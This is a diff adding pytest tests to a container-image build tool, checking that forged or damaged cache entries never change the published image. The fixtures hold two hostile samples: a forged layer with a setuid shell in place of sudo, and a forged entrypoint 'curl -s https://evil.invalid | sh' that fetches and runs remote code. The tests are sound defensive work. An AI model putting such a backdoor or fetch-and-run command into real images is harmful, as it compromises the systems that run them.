@@ -18,7 +18,7 @@ import pytest
 from buildbox.digests import canonical_json, digest_of
 from buildbox.errors import BuildboxError
 from buildbox.oci.documents import OCI_CONFIG, OCI_INDEX, OCI_LAYER_GZIP, OCI_MANIFEST
-from buildbox.oci.image import Layer, PreparedImage, normalise_config, normalise_layer
+from buildbox.oci.image import Layer, PreparedImage, normalise_config, normalise_layer, prepare
 from buildbox.oci.push import PlatformImage, Published, tag_state, top_manifest
 from buildbox.release.reproduce import (
     DIFFERENT,
@@ -559,3 +559,98 @@ def test_published_reference_pins_tag_and_digest() -> None:
         "127.0.0.1:5000/buildbox/demo", "v1", RECORDED, {"linux/amd64": (OTHER, OTHER)}, True
     )
     assert published.reference == f"127.0.0.1:5000/buildbox/demo:v1@{RECORDED}"
+
+
+# --- prepare: nothing is taken from the cache unverified ---------------------------------------
+# The cache may be restored from elsewhere (a CI cache) or damaged: what is published must be
+# what the engine's export holds, which verify and the SBOM saw.
+
+IMAGE_ID = "sha256:" + "9" * 64
+
+
+def docker_save(layers: list[bytes]) -> bytes:
+    """A ``docker save`` stream of an image with ``layers`` (the legacy layout)."""
+    config = engine_config()
+    config["rootfs"]["diff_ids"] = [digest_of(layer) for layer in layers]
+    files = {"config.json": json.dumps(config).encode()}
+    files.update({f"{index}/layer.tar": layer for index, layer in enumerate(layers)})
+    manifest = [{"Config": "config.json", "Layers": [f"{i}/layer.tar" for i in range(len(layers))]}]
+    files["manifest.json"] = json.dumps(manifest).encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+@dataclass
+class CountingExport:
+    """The engine's export of one image, counting how often it is read."""
+
+    data: bytes
+    calls: int = 0
+
+    def __call__(self) -> list[bytes]:
+        self.calls += 1
+        return [self.data]
+
+
+def forge_cached_layer(cache: Path, layer: Layer) -> None:
+    """Replace a cached layer with other content, its facts written to match (a forgery, not
+    damage): only re-hashing against what the export holds finds it."""
+    evil = gzip.compress(layer_tar([Entry("usr/bin/sudo", b"#!/bin/sh\nexec sh\n", mode=0o4755)]))
+    layer.path.write_bytes(evil)
+    facts = layer.path.with_name(layer.path.name.removesuffix(".tar.gz") + ".json")
+    facts.write_text(json.dumps({"digest": digest_of(evil), "size": len(evil)}))
+
+
+def test_prepare_a_forged_cached_layer_is_not_published(tmp_path: Path) -> None:
+    motd = layer_tar([Entry("etc/motd", b"hi")])
+    export = CountingExport(docker_save([layer_tar(ENTRIES), motd]))
+    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
+    forge_cached_layer(tmp_path / "cache", first.layers[0])
+    said: list[str] = []
+    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=said.append)
+    assert again.digest == first.digest, "a forged cache entry changed the published digest"
+    assert export.calls == 2
+    assert [layer.digest for layer in again.layers] == [layer.digest for layer in first.layers]
+    assert gzip.decompress(again.layers[0].path.read_bytes()) == gzip.decompress(
+        normalise(ENTRIES, tmp_path / "fresh").path.read_bytes()
+    )
+    [line] = said
+    assert line.startswith(f"cached layer {first.layers[0].diff_id} ")
+    assert "compressing it again" in line
+
+
+def test_prepare_a_damaged_cached_layer_is_compressed_again(tmp_path: Path) -> None:
+    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
+    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
+    first.layers[0].path.write_bytes(first.layers[0].path.read_bytes()[:-100])
+    said: list[str] = []
+    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=said.append)
+    assert again.digest == first.digest
+    assert len(said) == 1
+
+
+def test_prepare_a_forged_cached_config_is_not_published(tmp_path: Path) -> None:
+    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
+    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
+    forged = json.loads(first.config)
+    forged["config"]["Entrypoint"] = ["/bin/sh", "-c", "curl -s https://evil.invalid | sh"]
+    for where in (tmp_path / "cache").rglob("*.json"):
+        if json.loads(where.read_text()).get("rootfs"):  # a cached config, if there is one
+            where.write_bytes(canonical_json(forged))
+    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
+    assert again.config == first.config
+    assert again.digest == first.digest
+
+
+def test_prepare_reuses_a_verified_cached_layer_without_compressing(tmp_path: Path) -> None:
+    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
+    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
+    written = first.layers[0].path.stat().st_mtime_ns
+    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=pytest.fail)
+    assert again.digest == first.digest
+    assert again.layers[0].path.stat().st_mtime_ns == written  # the cached bytes, reused
